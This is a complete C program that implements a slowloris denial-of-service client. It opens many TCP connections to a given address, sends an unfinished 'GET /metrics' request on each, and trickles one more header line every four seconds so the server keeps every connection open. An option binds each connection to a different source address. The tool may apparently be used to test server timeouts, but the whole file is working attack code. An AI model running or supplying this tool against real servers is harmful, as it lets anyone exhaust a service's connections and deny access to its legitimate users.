/* Slow HTTP clients (slowloris): each opens a connection, sends a request line and then
 * one more header line every few seconds, never ending its request, so that a server
 * whose timeouts count only silence keeps every one of them.
 *   slowclients ADDR PORT COUNT SOURCE [distinct]
 * connects COUNT clients to ADDR:PORT from the local address SOURCE (with "distinct",
 * from SOURCE, SOURCE+1, ...: one address each), prints "connected N" and goes on until
 * SIGINT or SIGTERM. IPv4 only. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define HEADER_INTERVAL_SECONDS 4

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	stop = 1;
}

static int client_connect(const struct sockaddr_in *to, struct in_addr source)
{
	struct sockaddr_in from = { .sin_family = AF_INET, .sin_addr = source };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return -1;
	if (bind(fd, (struct sockaddr *)&from, sizeof(from)) ||
	    connect(fd, (const struct sockaddr *)to, sizeof(*to))) {
		close(fd);
		return -1;
	}
	return fd;
}

static void say(int fd, const char *text)
{
	if (fd >= 0)
		send(fd, text, strlen(text), MSG_NOSIGNAL | MSG_DONTWAIT);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct in_addr source;
	int count, connected = 0, *fds;
	char line[64];

	if (argc < 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[4], &source) != 1 || (count = atoi(argv[3])) <= 0) {
		fprintf(stderr, "usage: slowclients ADDR PORT COUNT SOURCE [distinct]\n");
		return 2;
	}
	to.sin_port = htons((uint16_t)atoi(argv[2]));
	signal(SIGINT, on_signal);
	signal(SIGTERM, on_signal);
	fds = calloc(count, sizeof(*fds));
	if (!fds)
		return 1;
	for (int i = 0; i < count; i++) {
		struct in_addr from = source;

		if (argc > 5 && !strcmp(argv[5], "distinct"))
			from.s_addr = htonl(ntohl(source.s_addr) + i);
		fds[i] = client_connect(&to, from);
		say(fds[i], "GET /metrics HTTP/1.1\r\nHost: slow\r\n");
		connected += fds[i] >= 0;
	}
	printf("connected %d\n", connected);
	fflush(stdout);
	for (unsigned long n = 0; !stop; n++) {
		struct timespec pause = { .tv_sec = HEADER_INTERVAL_SECONDS };

		while (nanosleep(&pause, &pause) && !stop)
			;
		snprintf(line, sizeof(line), "X-Slow-%lu: 1\r\n", n);
		for (int i = 0; i < count && !stop; i++)
			say(fds[i], line);
	}
	for (int i = 0; i < count; i++)
		if (fds[i] >= 0)
			close(fds[i]);
	free(fds);
	return 0;
}
